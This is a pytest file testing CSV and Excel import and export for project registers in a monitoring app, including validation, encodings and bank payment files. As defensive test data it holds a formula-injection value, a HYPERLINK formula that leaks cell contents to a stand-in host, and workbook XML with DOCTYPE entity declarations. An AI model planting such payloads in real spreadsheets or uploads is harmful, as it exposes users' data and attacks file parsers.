"""Registers in and out: CSV and Excel round trips, the same validation as the forms, hostile files."""

import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from monitor.access import audit
from monitor.access.scope import local_user
from monitor.errors import Conflict, Invalid
from monitor.registers import edit as registers
from monitor.registers import files as register_io

TODAY = dt.date(2025, 6, 1)


SEEDED = {"milestones": 10, "deliverables": 8, "results": 15, "risks": 5}  # rows in data/seed/mwinc


def _export(con, register, suffix):
    frame = registers.rows(con, register, "mwinc", local_user())
    return (register_io.export_xlsx if suffix == "xlsx" else register_io.export_csv)(frame, register)


ARABIC_3, ARABIC_12 = "\u0663", "\u0661\u0662"  # ٣ and ١٢


def _problems(shared_con, register: str, text: str, name: str = "r.csv") -> list[tuple]:
    with pytest.raises(Invalid) as refused:
        register_io.import_file(shared_con, register, "mwinc", text.encode("utf-8"), name, local_user("annett"), TODAY)
    return [(p.row, p.column, p.code) for p in refused.value.problems]


def _workbook(sheet_xml: bytes | None) -> bytes:
    book = Workbook()
    book.active.append(["code", "title"])
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                if sheet_xml is None:
                    continue
                data = sheet_xml
            archive.writestr(info.filename, data)
    return out.getvalue()


MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
@pytest.mark.parametrize("register", sorted(SEEDED))
def test_an_exported_register_imports_back_unchanged(con, register, suffix):
    before = registers.rows(con, register, "mwinc", local_user())
    summary = register_io.import_file(
        con, register, "mwinc", _export(con, register, suffix), f"x.{suffix}", local_user("annett"), TODAY
    )
    assert summary == register_io.ImportSummary(added=0, updated=0, unchanged=SEEDED[register])
    assert registers.rows(con, register, "mwinc", local_user()).equals(before)
    assert audit.read(con, local_user()).empty


def test_a_changed_csv_cell_updates_that_row_only(con):
    text = _export(con, "milestones", "csv").decode("utf-8-sig")
    text = text.replace("Case selection and access agreements", "Cases selected")
    summary = register_io.import_file(
        con, "milestones", "mwinc", text.encode("utf-8-sig"), "m.csv", local_user("annett"), TODAY
    )
    assert (summary.added, summary.updated, summary.unchanged) == (0, 1, 9)
    log = audit.read(con, local_user())
    assert log[["action", "row_key", "field", "new_value"]].values.tolist() == [
        ["update", "M1.1", "title", "Cases selected"]
    ]


def test_excel_import_adds_rows_and_reads_excel_dates(con):
    book = Workbook()
    sheet = book.active
    sheet.append(["title", "wp_code", "probability", "impact", "owner", "state"])
    sheet.append(["Funding cut", None, 2, 5, "Annett Arntzen", "open"])
    buffer = io.BytesIO()
    book.save(buffer)
    summary = register_io.import_file(con, "risks", "mwinc", buffer.getvalue(), "new.xlsx", local_user("annett"), TODAY)
    assert (summary.added, summary.updated) == (1, 0)
    assert "Funding cut" in registers.rows(con, "risks", "mwinc", local_user())["title"].tolist()


def test_an_import_is_all_or_nothing_and_names_every_bad_row(con):
    text = (
        "code;title;baseline_due;due_date\n"
        "M9;Fine;2024-01-01;2024-01-01\n"
        "M10;;2024-01-01;2024-01-01\n"  # row 3: no title
        "M11;Late;2024-01-01;2026-01-01\n"
    )  # row 4: after the project ends (2025-11-30)
    with pytest.raises(Invalid) as refused:
        register_io.import_file(con, "milestones", "mwinc", text.encode(), "m.csv", local_user("annett"), TODAY)
    assert [(p.row, p.column) for p in refused.value.problems] == [(3, "title"), (4, "due_date")]
    assert len(registers.rows(con, "milestones", "mwinc", local_user())) == SEEDED["milestones"]


def test_a_stale_file_is_refused(con):
    stale = _export(con, "milestones", "csv")
    registers.edit(con, "milestones", "mwinc", "M0", 1, {"comment": "edited in the app"}, local_user("annett"), TODAY)
    changed = stale.decode("utf-8-sig").replace("Kick-off with partners and cases", "Kick-off").encode("utf-8-sig")
    with pytest.raises(Conflict, match="changed by annett"):
        register_io.import_file(con, "milestones", "mwinc", changed, "m.csv", local_user("ole"), TODAY)


def test_formula_text_is_stored_verbatim_and_neutralised_in_both_exports(con):
    registers.edit(
        con,
        "risks",
        "mwinc",
        registers.rows(con, "risks", "mwinc", local_user())["risk_id"].iloc[0],
        1,
        {"mitigation": '=HYPERLINK("http://x?"&A1)'},
        local_user("annett"),
        TODAY,
    )
    assert registers.rows(con, "risks", "mwinc", local_user())["mitigation"].iloc[0] == '=HYPERLINK("http://x?"&A1)'
    assert "'=HYPERLINK" in _export(con, "risks", "csv").decode("utf-8-sig")
    sheet = load_workbook(io.BytesIO(_export(con, "risks", "xlsx"))).active
    assert sheet.cell(row=2, column=7).value == '\'=HYPERLINK("http://x?"&A1)'  # column 7: mitigation
    # and the round trip restores the text
    summary = register_io.import_file(
        con, "risks", "mwinc", _export(con, "risks", "csv"), "r.csv", local_user("annett"), TODAY
    )
    assert summary.updated == 0


@pytest.mark.parametrize(
    "data, name, reason",
    [
        ("code;title\nM9;Bjørn\n".encode("cp1252"), "m.csv", "not UTF-8"),
        ("code;title\nM9;BjÃ¸rn\n".encode(), "m.csv", "double-encoded"),
        (b"MZ\x90\x00 not a zip", "m.xlsx", "not an Excel .xlsx file"),
        (b"code;title\n", "m.txt", "expected a .csv or .xlsx file"),
        (b"x" * (register_io.MAX_FILE_BYTES + 1), "m.csv", "larger than"),
        (b"code;title;colour\nM9;x;red\n", "m.csv", "unknown column"),
    ],
)
def test_bad_files_are_refused_before_anything_is_written(shared_con, data, name, reason):
    with pytest.raises(Invalid, match=reason):
        register_io.import_file(shared_con, "milestones", "mwinc", data, name, local_user("annett"), TODAY)


def test_a_bad_register_file_is_told_in_norwegian(shared_con):
    from monitor.registers import files as register_io

    lines = "code;title;baseline_due;due_date;colour\nM9;Ny;2024-02-30;2024-03-01;rød\n"
    with pytest.raises(Invalid) as refused:
        register_io.import_file(shared_con, "milestones", "mwinc", lines.encode(), "m.csv", local_user("leader"), TODAY)
    assert refused.value.text("nb") == ["Rad 1, colour: ukjent kolonne"]
    without_colour = lines.replace(";colour", "").replace(";rød", "")
    with pytest.raises(Invalid) as refused:
        register_io.import_file(
            shared_con, "milestones", "mwinc", without_colour.encode(), "m.csv", local_user("leader"), TODAY
        )
    assert refused.value.text("nb") == [
        "Rad 2, Opprinnelig frist: «2024-02-30» er ikke en dato på formen ÅÅÅÅ-MM-DD eller DD.MM.ÅÅÅÅ"
    ]
    with pytest.raises(Invalid) as refused:
        register_io.import_file(
            shared_con,
            "milestones",
            "mwinc",
            "code;title\nM9;rød\n".encode("cp1252"),
            "m.csv",
            local_user("leader"),
            TODAY,
        )
    # Windows-1252: 'ø' is byte 15 (0-based) after "code;title\n" (11 bytes) and "M9;r" (4)
    assert refused.value.text("nb")[0].startswith("m.csv er ikke UTF-8 (byte 15); lagre den som «CSV UTF-8»")


def test_scores_keys_versions_and_cristin_ids_with_foreign_digits_are_refused(shared_con):
    header = "risk_id;title;probability;impact;owner;state\n"
    assert _problems(shared_con, "risks", header + f";Funding cut;{ARABIC_3};5;Annett;open\n") == [
        (2, "probability", "not_whole")
    ]
    assert _problems(shared_con, "risks", header + f"{ARABIC_12};Staff leave;2;2;Annett;open\n") == [
        (2, "risk_id", "key_version_whole")
    ]
    milestones = f"code;title;baseline_due;due_date;version\nM1.1;Cases;2022-06-30;2022-06-30;{ARABIC_3}\n"
    assert _problems(shared_con, "milestones", milestones) == [(2, "code", "key_version_whole")]
    results = (
        "category;title;result_date;cristin_id\narticle;A paper;2023-05-01;\uff11\uff12\uff13\n"  # full-width １２３
    )
    assert _problems(shared_con, "results", results) == [(2, "cristin_id", "not_cristin")]
    dates = "code;title;baseline_due;due_date\nM9;New;\u0662\u0660\u0662\u0664-01-01;2024-01-01\n"
    assert _problems(shared_con, "milestones", dates) == [(2, "baseline_due", "not_date")]


@pytest.mark.parametrize("codec, named", [("utf-16", "UTF-16 (little-endian)"), ("utf-16-be", "UTF-16 (big-endian)")])
def test_a_utf16_register_file_is_refused_naming_its_encoding(shared_con, codec, named):
    data = "code;title\nM9;Bjørn\n".encode(codec)
    with pytest.raises(Invalid) as refused:
        register_io.import_file(shared_con, "milestones", "mwinc", data, "m.csv", local_user("annett"), TODAY)
    assert refused.value.text("en") == [f"m.csv is {named} text; save it as 'CSV UTF-8 (comma delimited)'"]
    assert refused.value.text("nb") == [f"m.csv er {named}-tekst; lagre den som «CSV UTF-8 (kommadelt)»"]


@pytest.mark.parametrize(
    "sheet",
    [
        b'<worksheet xmlns="' + MAIN + b'"><sheetData>&undeclared;</sheetData></worksheet>',
        b'<!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet xmlns="' + MAIN + b'"><sheetData/></worksheet>',
        None,  # no worksheet at all
    ],
)
def test_a_hostile_or_broken_workbook_is_a_problem_not_a_traceback(shared_con, sheet):
    with pytest.raises(Invalid) as refused:
        register_io.import_file(
            shared_con, "milestones", "mwinc", _workbook(sheet), "m.xlsx", local_user("annett"), TODAY
        )
    assert refused.value.text("en") == ["m.xlsx is not a readable .xlsx file"]
    assert len(registers.rows(shared_con, "milestones", "mwinc", local_user())) == 10  # the seed's, unchanged


BANK_FILE = (
    # As a Norwegian bank or accounting system writes it: `;`, decimal comma, grouped thousands, dd.mm.yyyy.
    "payment_date;amount;payment_kind;payment_status;reference\n"
    "30.05.2024;1 012 345,50;invoice;received;Faktura T1 2024\n"
    "{second};987 654,50;invoice;received;Faktura T2 2024\n"
)


def test_a_bank_file_of_payments_is_refused_on_a_bad_date_and_imported_after_the_fix(con):
    def stored() -> list[tuple]:
        return con.execute(
            "select payment_date, amount from funder_payment where project_id = 'mwinc' and reference like '% 2024' "
            "and reference like 'Faktura T%' order by payment_date"
        ).fetchall()

    before = stored()
    bad = BANK_FILE.format(second="31.09.2024").encode()  # September has 30 days
    with pytest.raises(Invalid) as refused:
        register_io.import_file(con, "payments", "mwinc", bad, "bank.csv", local_user(), TODAY)
    assert [(p.row, p.column) for p in refused.value.problems] == [(3, "payment_date")]
    assert stored() == before  # nothing written
    good = BANK_FILE.format(second="30.09.2024").encode()
    preview = register_io.preview_file(con, "payments", "mwinc", good, "bank.csv", local_user(), TODAY)
    assert preview == register_io.ImportSummary(added=2, updated=0, unchanged=0)
    assert stored() == before  # a preview writes nothing
    summary = register_io.import_file(con, "payments", "mwinc", good, "bank.csv", local_user(), TODAY)
    assert summary.added == 2
    # 1 012 345,50 and 987 654,50 read by hand; the two add up to 2 000 000,00.
    assert sorted(set(stored()) - set(before)) == [
        (dt.date(2024, 5, 30), Decimal("1012345.50")),
        (dt.date(2024, 9, 30), Decimal("987654.50")),
    ]


def test_the_same_bank_file_imported_twice_adds_its_payments_once(con):
    good = BANK_FILE.format(second="30.09.2024").encode()
    count = "select count(*) from funder_payment where project_id = 'mwinc'"
    before = con.execute(count).fetchone()[0]
    register_io.import_file(con, "payments", "mwinc", good, "bank.csv", local_user(), TODAY)
    again = register_io.preview_file(con, "payments", "mwinc", good, "bank.csv", local_user(), TODAY)
    assert again == register_io.ImportSummary(added=0, updated=0, unchanged=2)
    summary = register_io.import_file(con, "payments", "mwinc", good, "bank.csv", local_user(), TODAY)
    assert summary == register_io.ImportSummary(added=0, updated=0, unchanged=2)
    assert con.execute(count).fetchone()[0] == before + 2
